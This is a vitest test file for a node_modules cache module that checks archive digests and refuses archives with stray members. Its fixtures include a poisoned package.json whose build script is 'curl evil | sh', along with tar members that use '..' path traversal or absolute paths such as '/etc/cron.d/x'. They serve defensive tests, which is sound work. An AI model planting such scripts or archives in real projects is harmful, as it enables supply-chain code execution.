import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, rm, truncate, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  CacheEntryError,
  digestFile,
  packEntry,
  sha256OfFile,
  strayMember,
  unpackEntry,
} from '../../src/cache/entry.js';
import { createRunner } from '../../src/exec.js';
import { MemoryLogger } from '../../src/log.js';

describe('strayMember', () => {
  it.each([
    { name: 'the directory itself', member: 'node_modules/', expected: undefined },
    { name: 'a file under it', member: 'node_modules/left-pad/index.js', expected: undefined },
    { name: 'a ./ prefix', member: './node_modules/x', expected: undefined },
    { name: 'a sibling file', member: 'package.json', expected: 'outside node_modules/' },
    { name: 'a name that only starts like it', member: 'node_modules_evil/x', expected: 'outside node_modules/' },
    { name: 'an absolute path', member: '/etc/cron.d/x', expected: 'an absolute path' },
    { name: 'a way up', member: 'node_modules/../package.json', expected: 'a path with ..' },
  ])('$name', ({ member, expected }) => {
    expect(strayMember(member, 'node_modules')).toBe(expected);
  });
});

describe('packEntry and unpackEntry', () => {
  const run = createRunner(new MemoryLogger());
  let work: string;
  let app: string;
  let dir: string;
  let archive: string;

  beforeEach(async () => {
    work = await mkdtemp(path.join(tmpdir(), 'adb-entry-'));
    app = path.join(work, 'app');
    dir = path.join(app, 'node_modules');
    await mkdir(path.join(dir, 'dep'), { recursive: true });
    await writeFile(path.join(dir, 'dep', 'index.js'), 'module.exports = 1;\n'.repeat(200));
    await writeFile(path.join(app, 'package.json'), '{"name":"app"}');
    archive = path.join(work, 'entry.tar.gz');
    await packEntry(dir, archive, 'gzip', run);
    await rm(dir, { recursive: true });
  });
  afterEach(() => rm(work, { recursive: true, force: true }));

  /** the app's directory holds only what it held before the restore (and node_modules when asked) */
  const appFiles = () => readdirSync(app).sort();

  async function rejects(): Promise<CacheEntryError> {
    const error = await unpackEntry(archive, dir, 'gzip', run).then(
      () => undefined,
      (e: unknown) => e,
    );
    expect(error).toBeInstanceOf(CacheEntryError);
    expect(existsSync(dir)).toBe(false);
    expect(appFiles()).toEqual(['package.json']);
    expect(await readFile(path.join(app, 'package.json'), 'utf8')).toBe('{"name":"app"}');
    return error as CacheEntryError;
  }

  it('round trip: the digest is written beside the archive, and the tree comes back', async () => {
    expect((await readFile(digestFile(archive), 'utf8')).trim()).toBe(await sha256OfFile(archive));
    await unpackEntry(archive, dir, 'gzip', run);
    expect(await readFile(path.join(dir, 'dep', 'index.js'), 'utf8')).toContain('module.exports');
    expect(appFiles()).toEqual(['node_modules', 'package.json']);
  });

  it('replaces whatever was in the directory', async () => {
    await mkdir(path.join(dir, 'stale'), { recursive: true });
    await unpackEntry(archive, dir, 'gzip', run);
    expect(readdirSync(dir)).toEqual(['dep']);
  });

  it('a truncated archive is refused by its digest, and nothing is left', async () => {
    await truncate(archive, 100);
    expect((await rejects()).message).toMatch(/digest is .*, not the .* written when it was saved/);
  });

  it('an archive without its digest is refused', async () => {
    await rm(digestFile(archive));
    expect((await rejects()).message).toMatch(/no digest/);
  });

  it('an archive that holds a file beside the directory is refused, even with a matching digest', async () => {
    // what a poisoned entry would carry: a package.json whose build script runs on the next build
    const evil = path.join(work, 'evil');
    await mkdir(path.join(evil, 'node_modules'), { recursive: true });
    await writeFile(path.join(evil, 'package.json'), '{"scripts":{"build":"curl evil | sh"}}');
    execFileSync('tar', ['-czf', archive, '-C', evil, 'node_modules', 'package.json']);
    await writeFile(digestFile(archive), `${await sha256OfFile(archive)}\n`);
    expect((await rejects()).message).toBe(
      'the archive holds "package.json", outside node_modules/: an entry for node_modules holds nothing else',
    );
  });

  it.each([
    { name: 'a member with ..', transform: 's,^node_modules/x,node_modules/../../escaped,' },
    { name: 'an absolute member', transform: `s,^node_modules/x,${'/tmp/adb-escaped-absolute'},` },
  ])('$name writes nothing outside the staging directory and is refused', async ({ transform }) => {
    const src = path.join(work, 'src');
    await mkdir(path.join(src, 'node_modules'), { recursive: true });
    await writeFile(path.join(src, 'node_modules', 'x'), 'outside');
    execFileSync('tar', ['-czf', archive, '-P', `--transform=${transform}`, '-C', src, 'node_modules']);
    await writeFile(digestFile(archive), `${await sha256OfFile(archive)}\n`);
    await rejects();
    expect(existsSync(path.join(app, 'escaped'))).toBe(false);
    expect(existsSync(path.join(work, 'escaped'))).toBe(false);
    expect(existsSync(path.join(path.dirname(work), 'escaped'))).toBe(false);
    expect(existsSync('/tmp/adb-escaped-absolute')).toBe(false);
  });

  it("an archive that tar cannot read is refused with tar's words", async () => {
    await writeFile(archive, 'not a tar archive at all');
    await writeFile(digestFile(archive), `${await sha256OfFile(archive)}\n`);
    expect((await rejects()).message).toMatch(/^tar cannot read the archive: /);
  });
});
